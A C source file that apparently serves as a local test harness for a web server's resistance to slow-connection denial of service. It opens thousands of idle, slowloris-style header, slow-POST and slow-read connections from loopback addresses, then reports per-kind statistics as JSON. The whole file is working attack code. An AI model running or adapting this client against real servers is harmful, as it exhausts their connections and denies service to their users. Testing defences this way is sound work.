/* attack_client.c - clients that hold connections and give little for them.
 *
 * Kinds: idle (says nothing), heads (a byte of a head at a time, without end), bodies (the same of a body), readers (asks
 * and takes a byte at a time). Whoever's connection ends makes a new one. Sources are 127.0.0.2 and up, a thousand
 * attackers each. Prints "started" once all have connected, and after SIGTERM one line of JSON: for each kind how many are open,
 * how often one was answered first (by status) and how often one ended.
 *
 * usage: attack-client --address IPV4:PORT [--idle N] [--heads N] [--bodies N] [--readers N] [--every MS] [--path P]
 *                      [--host H] [--buffer BYTES]
 *
 * every: how often each gives or takes its byte. path: what readers ask for. buffer: what the kernel receives for readers. */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { EVENTS = 1024, STATUSES = 600, PER_SOURCE = 1000, OPEN_PER_TURN = 64, TEXT = 512, RECONNECT_MS = 100 };
enum kind { IDLE, HEADS, BODIES, READERS, KINDS };

static const char *const names[KINDS] = {"idle", "heads", "bodies", "readers"};

struct attacker {
    int fd; /* -1: to be opened */
    enum kind kind;
    bool connected;
    uint64_t due_ms; /* for its next byte, or to connect again */
};

static struct {
    struct sockaddr_in address;
    const char *path, *host;
    unsigned count[KINDS];
    unsigned every_ms;
    int buffer;
} set = {.path = "/", .host = "x", .every_ms = 1000, .buffer = 2048};

static struct {
    unsigned open;
    uint64_t made, ended, answers[STATUSES];
} seen[KINDS];

static struct attacker *all;
static unsigned total;
static int epoll_fd;
static volatile sig_atomic_t ending;

static uint64_t now_ms(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

static void end(struct attacker *a, uint64_t now)
{
    close(a->fd);
    a->fd = -1;
    if (a->connected) {
        seen[a->kind].open--;
        seen[a->kind].ended++;
    }
    a->connected = false;
    a->due_ms = now + RECONNECT_MS;
}

static void begin(struct attacker *a, uint64_t now)
{
    unsigned index = (unsigned)(a - all);
    struct sockaddr_in source = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000002 + index / PER_SOURCE)};
    struct epoll_event event = {.events = EPOLLIN | EPOLLOUT | EPOLLET, .data.ptr = a};

    a->due_ms = now + RECONNECT_MS;
    a->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (a->fd < 0)
        return;
    if (a->kind == READERS)
        setsockopt(a->fd, SOL_SOCKET, SO_RCVBUF, &set.buffer, sizeof(set.buffer));
    if (bind(a->fd, (struct sockaddr *)&source, sizeof(source)) < 0 ||
        (connect(a->fd, (struct sockaddr *)&set.address, sizeof(set.address)) < 0 && errno != EINPROGRESS) ||
        epoll_ctl(epoll_fd, EPOLL_CTL_ADD, a->fd, &event) < 0) {
        close(a->fd);
        a->fd = -1;
    }
}

static void say(struct attacker *a, const char *text, size_t len)
{
    ssize_t n = send(a->fd, text, len, MSG_NOSIGNAL);

    (void)n; /* an end is seen when it is read */
}

static void connected(struct attacker *a, uint64_t now)
{
    char text[TEXT];
    int len = 0;

    a->connected = true;
    seen[a->kind].open++;
    seen[a->kind].made++;
    a->due_ms = now + (uint64_t)rand() % set.every_ms;
    if (a->kind == HEADS)
        len = snprintf(text, sizeof(text), "GET / HTTP/1.1\r\nHost: %s\r\nX-Slow: ", set.host);
    else if (a->kind == BODIES)
        len = snprintf(text, sizeof(text), "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n\r\n", set.host);
    else if (a->kind == READERS)
        len = snprintf(text, sizeof(text), "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", set.path, set.host);
    say(a, text, (size_t)len);
}

/* What comes is an answer, or the end; readers take it a byte at a time. */
static void receive(struct attacker *a, uint64_t now, size_t most)
{
    char text[TEXT];
    ssize_t n = recv(a->fd, text, most, 0);
    int status;

    if (n >= 12 && sscanf(text, "HTTP/1.%*c %3d", &status) == 1 && status > 0 && status < STATUSES)
        seen[a->kind].answers[status]++;
    if (n == 0 || (n < 0 && errno != EAGAIN))
        end(a, now);
}

static void act(struct attacker *a, uint64_t now)
{
    a->due_ms = now + set.every_ms;
    if (a->kind == HEADS || a->kind == BODIES)
        say(a, "x", 1);
    else if (a->kind == READERS)
        receive(a, now, 1);
}

static void on_event(struct attacker *a, uint32_t events, uint64_t now)
{
    if (a->fd < 0)
        return;
    if (!a->connected && (events & (EPOLLERR | EPOLLHUP))) {
        end(a, now);
        return;
    }
    if (!a->connected && (events & EPOLLOUT))
        connected(a, now);
    if (events & EPOLLERR)
        end(a, now);
    else if ((events & EPOLLIN) && (a->kind != READERS || (events & EPOLLHUP)))
        receive(a, now, TEXT);
}

/* A few connections at a time: a queue of the kernel's takes no more. */
static unsigned look_around(uint64_t now)
{
    unsigned opened = 0, waiting = 0;

    for (unsigned i = 0; i < total; i++) {
        struct attacker *a = &all[i];

        waiting += !a->connected;
        if (now < a->due_ms)
            continue;
        if (a->fd < 0 && opened++ < OPEN_PER_TURN)
            begin(a, now);
        else if (a->connected)
            act(a, now);
    }
    return waiting;
}

static void run(void)
{
    struct epoll_event events[EVENTS];
    bool started = false;

    while (!ending) {
        int n = epoll_wait(epoll_fd, events, EVENTS, 5);
        uint64_t now = now_ms();

        for (int i = 0; i < n; i++)
            on_event(events[i].data.ptr, events[i].events, now);
        if (look_around(now) == 0 && !started) {
            started = true;
            puts("started");
            fflush(stdout);
        }
    }
}

static void report(void)
{
    putchar('{');
    for (int k = 0; k < KINDS; k++) {
        bool first = true;

        printf("%s\"%s\":{\"open\":%u,\"made\":%llu,\"ended\":%llu,\"answers\":{", k ? "," : "", names[k], seen[k].open,
               (unsigned long long)seen[k].made, (unsigned long long)seen[k].ended);
        for (int s = 0; s < STATUSES; s++) {
            if (!seen[k].answers[s])
                continue;
            printf("%s\"%d\":%llu", first ? "" : ",", s, (unsigned long long)seen[k].answers[s]);
            first = false;
        }
        printf("}}");
    }
    puts("}");
}

static void on_term(int signal)
{
    (void)signal;
    ending = 1;
}

static void read_address(char *text)
{
    char *colon = strrchr(text, ':');

    set.address.sin_family = AF_INET;
    if (colon)
        *colon = '\0';
    if (!colon || inet_pton(AF_INET, text, &set.address.sin_addr) != 1) {
        fprintf(stderr, "attack-client: --address IPV4:PORT\n");
        exit(2);
    }
    set.address.sin_port = htons((uint16_t)atoi(colon + 1));
}

static void read_options(int argc, char **argv)
{
    static const struct option options[] = {
        {"idle", 1, NULL, IDLE}, {"heads", 1, NULL, HEADS}, {"bodies", 1, NULL, BODIES}, {"readers", 1, NULL, READERS},
        {"address", 1, NULL, 'a'}, {"every", 1, NULL, 'e'}, {"path", 1, NULL, 'p'}, {"host", 1, NULL, 'h'},
        {"buffer", 1, NULL, 'b'}, {0},
    };
    int option;

    while ((option = getopt_long(argc, argv, "", options, NULL)) != -1) {
        if (option < KINDS)
            set.count[option] = (unsigned)atoi(optarg);
        else if (option == 'a')
            read_address(optarg);
        else if (option == 'e')
            set.every_ms = (unsigned)atoi(optarg);
        else if (option == 'p')
            set.path = optarg;
        else if (option == 'h')
            set.host = optarg;
        else if (option == 'b')
            set.buffer = atoi(optarg);
        else
            exit(2);
    }
}

int main(int argc, char **argv)
{
    struct rlimit limit;

    read_options(argc, argv);
    if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
        limit.rlim_cur = limit.rlim_max;
        setrlimit(RLIMIT_NOFILE, &limit);
    }
    for (int k = 0; k < KINDS; k++)
        total += set.count[k];
    all = calloc(total ? total : 1, sizeof(*all));
    epoll_fd = epoll_create1(0);
    if (!all || epoll_fd < 0)
        return 1;
    for (unsigned i = 0, k = 0, left = set.count[0]; i < total; i++, left--) {
        while (!left && k < KINDS - 1)
            left = set.count[++k];
        all[i] = (struct attacker){.fd = -1, .kind = (enum kind)k};
    }
    signal(SIGTERM, on_term);
    signal(SIGPIPE, SIG_IGN);
    run();
    report();
    return 0;
}
